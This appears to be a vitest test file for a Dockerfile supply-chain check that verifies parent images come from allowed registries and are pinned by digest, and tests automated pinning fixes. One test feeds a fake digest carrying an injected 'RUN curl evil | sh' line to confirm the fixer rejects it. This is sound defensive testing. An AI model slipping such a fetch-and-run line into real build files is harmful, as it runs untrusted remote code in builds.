import { describe, expect, it } from 'vitest';
import { readDockerfile } from '../../dockerfiles.js';
import { applyEdits } from '../apply.js';
import { context, digestOf, dockerfile, estate, finding, mapOf, registry, stored } from '../test-evidence.js';
import { trustedParentImages } from './b01-trusted-parent-images.js';

const internal = 'registry.example.com';
const baseDigest = digestOf('base');

describe('SS-CTL-B01 trusted, pinned parent images', () => {
  it('is unknown when no Dockerfile was read', () => {
    const outcome = trustedParentImages.evaluate(context(estate()));
    expect(outcome.status).toBe('unknown');
    expect(outcome.summary).toBe('no Dockerfiles were read');
  });

  it("is met for a parent pinned by digest from the estate's own registry", () => {
    const df = dockerfile('apps/api/Dockerfile', [[1, `${internal}/base/debian:12@${baseDigest}`]]);
    const outcome = trustedParentImages.evaluate(
      context(estate({ dockerfiles: [df], registries: [registry(internal, [])] }), {
        map: mapOf(['dockerfile:apps/api/Dockerfile', `image:${internal}/base/debian`]),
      }),
    );
    expect(outcome.status).toBe('met');
    expect(outcome.evidence[0]?.where).toBe('apps/api/Dockerfile:1');
    expect(outcome.evidence[0]?.nodes).toEqual(['dockerfile:apps/api/Dockerfile', `image:${internal}/base/debian`]);
    expect(outcome.changes).toEqual([]);
  });

  it('proposes FROM <ref>@<digest> when a registry scan knows the tag, and skopeo inspect otherwise', () => {
    const df = dockerfile(
      'apps/api/Dockerfile',
      [
        [1, `${internal}/base/debian:12`, 'build'],
        [5, 'alpine:3.19'],
      ],
      [finding('SS-DF-001', 1, 'LOW', 'not pinned', 'apps/api/Dockerfile')],
    );
    const reg = registry(internal, [{ name: 'base/debian', images: [stored(baseDigest, ['12'])] }]);
    const outcome = trustedParentImages.evaluate(context(estate({ dockerfiles: [df], registries: [reg] })));
    expect(outcome.status).toBe('partial');
    const internalCheck = outcome.evidence.find((e) => e.where === 'apps/api/Dockerfile:1');
    expect(internalCheck?.findings).toEqual(['SS-DF-001']);
    const pin = outcome.changes.find((c) => c.line === 1);
    expect(pin).toMatchObject({ file: 'apps/api/Dockerfile', line: 1, snippet: `FROM ${internal}/base/debian:12@${baseDigest} AS build` });
    // applied to the Dockerfile, the reader sees the parent pinned
    const pinned = applyEdits(`FROM ${internal}/base/debian:12 AS build\nRUN make\n`, 'apps/api/Dockerfile', pin?.edits ?? []);
    expect(readDockerfile('apps/api/Dockerfile', pinned, '.').froms[0]?.resolved).toBe(`${internal}/base/debian:12@${baseDigest}`);
    const lookup = outcome.changes.find((c) => c.line === 5 && c.snippet?.startsWith('skopeo inspect'));
    expect(lookup?.snippet).toBe("skopeo inspect docker://alpine:3.19 --format '{{.Digest}}'");
    // the public parent is also untrusted: mirror it into the estate's registry
    expect(outcome.changes.find((c) => c.line === 5 && c.snippet?.startsWith('skopeo copy'))?.snippet).toBe(
      `skopeo copy docker://alpine:3.19 docker://${internal}/library/alpine:3.19`,
    );
    expect(outcome.evidence.find((e) => e.where === 'apps/api/Dockerfile:5')?.text).toContain('public registry');
  });

  it('is a gap for a registry outside allowedRegistries, even pinned', () => {
    const df = dockerfile('Dockerfile', [[1, `quay.io/someone/tool@${baseDigest}`]]);
    const outcome = trustedParentImages.evaluate(
      context(estate({ dockerfiles: [df] }), { policy: { allowedRegistries: [`${internal}/`, 'docker.io/library/*'] } }),
    );
    expect(outcome.status).toBe('gap');
    expect(outcome.evidence[0]?.text).toContain("not in the policy's allowedRegistries");
  });

  it('honours glob entries of allowedRegistries and skips stage references and scratch', () => {
    const df = dockerfile('Dockerfile', [
      [1, `alpine:3.19@${baseDigest}`, 'base'],
      [3, 'scratch'],
    ]);
    df.froms.push({ line: 4, raw: 'base', resolved: 'base', unknowns: [], stageName: undefined, stageRef: 'base', platform: undefined });
    const outcome = trustedParentImages.evaluate(context(estate({ dockerfiles: [df] }), { policy: { allowedRegistries: ['docker.io/library/*'] } }));
    expect(outcome.status).toBe('met');
    expect(outcome.evidence).toHaveLength(1);
  });

  it('says which ARG leaves a parent unresolved', () => {
    const outcome = trustedParentImages.evaluate(context(estate({ dockerfiles: [dockerfile('Dockerfile', [[2, '${BASE}:3.19']])] })));
    expect(outcome.status).toBe('partial');
    expect(outcome.evidence[0]?.text).toContain('ARG BASE');
  });
});

describe('SS-CTL-B01 pins with the digests its registries give (`fix --resolve`)', () => {
  const text =
    'ARG BASE=debian:12\nFROM --platform=$BUILDPLATFORM golang:1.22 AS build\nRUN go build\nFROM ${BASE} AS base\nFROM alpine:3.19\nCOPY --from=build /out /out\n';
  const golang = digestOf('golang');
  const alpine = digestOf('alpine');
  const evaluate = (source: string, resolvedDigests: ReadonlyMap<string, string>) =>
    trustedParentImages.evaluate({ ...context(estate({ dockerfiles: [readDockerfile('Dockerfile', source, '.')] })), resolvedDigests });

  it('pins each FROM written as a reference, keeping --platform and AS, and has nothing left to pin after', () => {
    const resolved = new Map([
      ['golang:1.22', golang],
      // the normalised form is looked up too
      ['docker.io/library/alpine:3.19', alpine],
      ['debian:12', digestOf('debian')],
    ]);
    const pins = evaluate(text, resolved).changes.filter((c) => c.summary.startsWith('pin the parent'));
    expect(pins.map((c) => [c.line, c.edits.length, c.rules])).toEqual([
      [2, 1, ['SS-DF-001']],
      // FROM ${BASE}: the ARG default is where the digest goes, by hand
      [4, 0, ['SS-DF-001']],
      [5, 1, ['SS-DF-001']],
    ]);
    expect(pins[0]?.summary).toContain('the digest its registry gave for the tag');
    expect(pins[1]?.summary).toContain(`make the ARG default that line 4 of Dockerfile uses name debian:12@${digestOf('debian')}`);
    const pinned = applyEdits(
      text,
      'Dockerfile',
      pins.flatMap((c) => c.edits),
    );
    expect(pinned.split('\n').slice(1, 5)).toEqual([
      `FROM --platform=$BUILDPLATFORM golang:1.22@${golang} AS build`,
      'RUN go build',
      'FROM ${BASE} AS base',
      `FROM alpine:3.19@${alpine}`,
    ]);
    const again = evaluate(pinned, resolved).changes.filter((c) => c.edits.length > 0);
    expect(again).toEqual([]);
    expect(
      readDockerfile('Dockerfile', pinned, '.')
        .findings.filter((f) => f.ruleId === 'SS-DF-001')
        .map((f) => f.location.startLine),
    ).toEqual([4]);
  });

  it('writes no digest that is not one', () => {
    const resolved = new Map([
      ['golang:1.22', 'sha256:abc'],
      ['alpine:3.19', `${alpine}\nRUN curl evil | sh`],
    ]);
    expect(evaluate(text, resolved).changes.filter((c) => c.edits.length > 0)).toEqual([]);
  });
});
